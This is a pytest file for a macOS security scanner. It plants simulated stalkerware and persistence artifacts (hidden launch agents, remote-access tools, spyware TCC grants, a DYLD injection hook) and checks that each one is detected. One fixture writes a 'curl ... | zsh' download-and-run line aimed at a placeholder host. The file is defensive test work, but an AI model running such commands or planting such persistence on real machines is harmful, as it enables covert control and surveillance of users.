"""`safecheck scan` end to end on folders laid out like Mac disks: a benign Mac, one planted
case per location (each found), and damaged files (coverage rows, never a traceback)."""

from __future__ import annotations

import plistlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from macos_fakeroot import (
    ALICE,
    DISABLED,
    SYSTEM_TCC,
    USER_TCC,
    app,
    launchd,
    mac_root,
    make_host,
    tcc_db,
    write,
    write_plist,
)

from safecheck.core.i18n import Translator
from safecheck.core.model import CoverageStatus, Severity
from safecheck.report.model import Report
from safecheck.scan.collectors.macos import macos_collectors
from safecheck.scan.run import run_scan

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def scan(root: Path, lang: str = "en") -> Report:
    return run_scan(make_host(root), macos_collectors(), Translator(lang), clock=lambda: NOW)


@pytest.fixture
def benign(tmp_path: Path) -> Path:
    return mac_root(tmp_path / "disk")


def test_benign_mac_has_no_finding_at_medium_or_above(benign: Path) -> None:
    report = scan(benign)
    serious = [(f.id, f.title) for f in report.findings if f.severity >= Severity.MEDIUM]
    assert serious == []
    coverage = {c.id: c.status for c in report.coverage}
    assert set(coverage) == {c.id for c in macos_collectors()} | {"scan.scripts"}
    assert coverage.pop("scan.scripts") in (CoverageStatus.OK, CoverageStatus.NOT_APPLICABLE)
    # A Mac with no configuration profile has none of the profile folders: said so, not "ok".
    assert coverage.pop("macos.profiles") is CoverageStatus.NOT_APPLICABLE
    assert all(status is CoverageStatus.OK for status in coverage.values()), report.coverage
    assert int(report.metadata.host["entries"]) > 15


def _plant_user_agent(root: Path) -> str:
    path = f"{ALICE}/Library/LaunchAgents/com.apple.updates.plist"
    launchd(root, path, "com.apple.updates", [f"{ALICE}/.hidden/agent"], binary=True)
    write(root, f"{ALICE}/.hidden/agent", b"\xcf\xfa\xed\xfe", 0o755)
    return path


def _plant_anydesk(root: Path) -> str:
    path = "/Library/LaunchDaemons/com.philandro.anydesk.service.plist"
    launchd(
        root,
        path,
        "com.philandro.anydesk.service",
        ["/Applications/AnyDesk.app/Contents/MacOS/AnyDesk", "--service"],
        RunAtLoad=True,
        KeepAlive=True,
    )
    return path


def _plant_teamviewer(root: Path) -> str:
    app(root, "/Applications", "com.teamviewer.TeamViewer", "TeamViewer")
    return "/Applications/TeamViewer.app"


def _plant_tcc(root: Path) -> str:
    tcc_db(
        root,
        SYSTEM_TCC,
        [
            ("kTCCServiceAccessibility", "com.example.spy", 0, 2),
            ("kTCCServiceScreenCapture", "com.example.spy", 0, 2),
            ("kTCCServiceSystemPolicyAllFiles", "com.apple.Terminal", 0, 2),
        ],
    )
    return SYSTEM_TCC


def _plant_mdm(root: Path) -> str:
    path = "/private/var/db/ConfigurationProfiles/Store/ConfigProfiles.binary"
    profile = {
        "PayloadType": "Configuration",
        "PayloadIdentifier": "com.example.mdm.enrollment",
        "PayloadDisplayName": "Device Enrollment",
        "PayloadOrganization": "Example Corp",
        "PayloadUUID": "6F1C3F5E-4C0B-4B39-9C3E-1D2E3F4A5B6C",
        "PayloadVersion": 1,
        "PayloadContent": [
            {
                "PayloadType": "com.apple.mdm",
                "PayloadIdentifier": "com.example.mdm.enrollment.mdm",
                "ServerURL": "https://mdm.example.net/mdm/server",
                "Topic": "com.apple.mgmt.External.4c1b",
                "AccessRights": 8191,
            }
        ],
    }
    write_plist(root, path, {"_computerlevel": [profile]}, binary=True)
    return path


def _plant_remote_login(root: Path) -> str:
    write_plist(
        root,
        DISABLED,
        {"com.openssh.sshd": False, "com.apple.screensharing": True, "com.apple.AEServer": True},
        binary=True,
    )
    return DISABLED


def _plant_cron(root: Path) -> str:
    path = "/private/var/at/tabs/alice"
    write(root, path, f"*/15 * * * * {ALICE}/Library/Scripts/sync.sh >/dev/null 2>&1\n", 0o600)
    return path


def _plant_screen_sharing(root: Path) -> str:
    write_plist(root, DISABLED, {"com.apple.screensharing": False}, binary=True)
    return DISABLED


def _plant_remote_management(root: Path) -> str:
    path = "/Library/Application Support/Apple/Remote Desktop/RemoteManagement.launchd"
    write(root, path, "enabled\n")
    return path


def _plant_auth_plugin(root: Path) -> str:
    bundle = "/Library/Security/SecurityAgentPlugins/Capture.bundle"
    write_plist(
        root,
        f"{bundle}/Contents/Info.plist",
        {"CFBundleIdentifier": "com.example.capture", "CFBundleExecutable": "Capture"},
    )
    return bundle


def _plant_startup_item(root: Path) -> str:
    write(root, "/Library/StartupItems/Helper/Helper", "#!/bin/sh\n/usr/local/bin/h &\n", 0o755)
    return "/Library/StartupItems/Helper"


def _plant_dep(root: Path) -> str:
    path = "/private/var/db/ConfigurationProfiles/Settings/.cloudConfigRecordFound"
    write(root, path, "")
    return path


def _plant_user_tcc_keyboard(root: Path) -> str:
    tcc_db(root, USER_TCC, [("kTCCServiceListenEvent", "/Users/alice/.x/keys", 1, 2)], old=True)
    return USER_TCC


def _plant_btm_anydesk(root: Path) -> str:
    from macos_fakeroot import USER_BTM, btm  # noqa: PLC0415

    write(root, USER_BTM, btm(["file:///Applications/AnyDesk.app/", "com.philandro.anydesk"]))
    return USER_BTM


def _plant_dyld(root: Path) -> str:
    path = "/Library/LaunchAgents/com.example.helper.plist"
    launchd(
        root,
        path,
        "com.example.helper",
        ["/Applications/Safari.app/Contents/MacOS/Safari"],
        EnvironmentVariables={"DYLD_INSERT_LIBRARIES": "/Library/Caches/libhook.dylib"},
    )
    return path


PLANTED = {
    "user-launch-agent-hidden": (_plant_user_agent, "SC-LNX-HIDDEN-PROGRAM"),
    "anydesk-launch-daemon": (_plant_anydesk, "SC-TOOL-REMOTE-ACCESS"),
    "teamviewer-app": (_plant_teamviewer, "SC-TOOL-REMOTE-ACCESS"),
    "tcc-accessibility": (_plant_tcc, "SC-MAC-TCC-CONTROL"),
    "tcc-screen": (_plant_tcc, "SC-MAC-TCC-SCREEN"),
    "tcc-input-old-schema": (_plant_user_tcc_keyboard, "SC-MAC-TCC-KEYBOARD"),
    "mdm-profile": (_plant_mdm, "SC-MAC-MDM-ENROLLED"),
    "dep-enrolment": (_plant_dep, "SC-MAC-MDM-ENROLLED"),
    "remote-login": (_plant_remote_login, "SC-MAC-SHARING-ON"),
    "screen-sharing": (_plant_screen_sharing, "SC-MAC-SHARING-SCREEN"),
    "remote-management": (_plant_remote_management, "SC-MAC-SHARING-SCREEN"),
    "cron-line": (_plant_cron, "SC-MAC-CRON-JOB"),
    "auth-plugin": (_plant_auth_plugin, "SC-MAC-AUTH-PLUGIN"),
    "startup-item": (_plant_startup_item, "SC-MAC-STARTUP-ITEM"),
    "login-item-anydesk": (_plant_btm_anydesk, "SC-TOOL-REMOTE-ACCESS"),
    "dyld-insert": (_plant_dyld, "SC-MAC-DYLD-INSERT"),
}


@pytest.mark.parametrize("case", sorted(PLANTED))
def test_planted_case_is_found(benign: Path, case: str) -> None:
    plant, rule = PLANTED[case]
    where = plant(benign)
    report = scan(benign)
    found = [f for f in report.findings if f.id == rule]
    assert found, [(f.id, f.title) for f in report.findings]
    paths = {e.path for f in found for e in f.evidence}
    assert where in paths or any(where in (p or "") for p in paths), paths


def test_planted_findings_name_the_tool_and_client(benign: Path) -> None:
    _plant_anydesk(benign)
    _plant_teamviewer(benign)
    _plant_tcc(benign)
    report = scan(benign, "fr")
    titles = {f.title for f in report.findings}
    assert any("AnyDesk" in t for t in titles), titles
    assert any("TeamViewer" in t for t in titles), titles
    assert any("com.example.spy" in t for t in titles), titles
    assert not any("com.apple.Terminal" in t for t in titles), titles


def test_remote_login_finding_is_low_and_mdm_high(benign: Path) -> None:
    _plant_remote_login(benign)
    _plant_mdm(benign)
    report = scan(benign)
    levels = {f.id: f.severity for f in report.findings}
    assert levels["SC-MAC-SHARING-ON"] is Severity.LOW
    assert levels["SC-MAC-MDM-ENROLLED"] is Severity.HIGH


def test_damaged_files_give_coverage_rows_not_tracebacks(benign: Path) -> None:
    write(benign, "/Library/LaunchDaemons/broken.plist", b"bplist00\x00\x01garbage")
    write(benign, "/Library/LaunchAgents/half.plist", "<?xml version='1.0'?><plist><dict><key>")
    write(benign, f"{ALICE}/Library/LaunchAgents/list.plist", plistlib.dumps(["not", "a dict"]))
    write(benign, SYSTEM_TCC, b"SQLite format 3\x00" + b"\xff" * 200)
    write(benign, "/Applications/Broken.app/Contents/Info.plist", b"\x00\x01\x02")
    write(benign, "/Library/SystemExtensions/db.plist", b"bplist00")
    write(benign, "/private/var/db/ConfigurationProfiles/Store/x.plist", "not a plist")
    write(
        benign,
        "/Users/alice/Library/Application Support/com.apple.backgroundtaskmanagementagent/"
        "backgrounditems.btm",
        b"bplist00\xd1\x01\x02",
    )
    report = scan(benign)
    coverage = {c.id: c for c in report.coverage}
    for collector in ("macos.launchd", "macos.tcc", "macos.apps", "macos.extensions"):
        assert coverage[collector].status is CoverageStatus.PARTIAL, coverage[collector]
    assert any("broken.plist" in d for d in coverage["macos.launchd"].details)
    assert any("TCC.db" in d for d in coverage["macos.tcc"].details)
    assert all(c.status is not CoverageStatus.FAILED for c in report.coverage)
    # the damaged app is still listed by its folder name
    serious = [f.id for f in report.findings if f.severity >= Severity.MEDIUM]
    assert serious == []


def test_launch_agent_script_that_downloads_and_runs(benign: Path) -> None:
    script = f"{ALICE}/Library/Application Support/.sync/run.sh"
    launchd(
        benign,
        f"{ALICE}/Library/LaunchAgents/com.sync.helper.plist",
        "com.sync.helper",
        [script],
        RunAtLoad=True,
    )
    write(benign, script, b"#!/bin/zsh\ncurl -fsSL https://example.invalid/m | zsh\n", 0o755)
    found = [f for f in scan(benign).findings if f.id == "SC-SCRIPT-DOWNLOAD-RUN"]
    assert found and found[0].evidence[0].path == script


def test_app_copied_into_downloads_is_found_by_bundle_id(benign: Path) -> None:
    # Renamed, and never moved to /Applications: recognised by what it says it is.
    app(benign, f"{ALICE}/Downloads", "com.teamviewer.TeamViewer", "Helper")
    found = [f for f in scan(benign).findings if f.id == "SC-TOOL-REMOTE-ACCESS"]
    assert found and "TeamViewer" in found[0].title
    assert any(e.path and "/Downloads/Helper.app" in e.path for e in found[0].evidence)
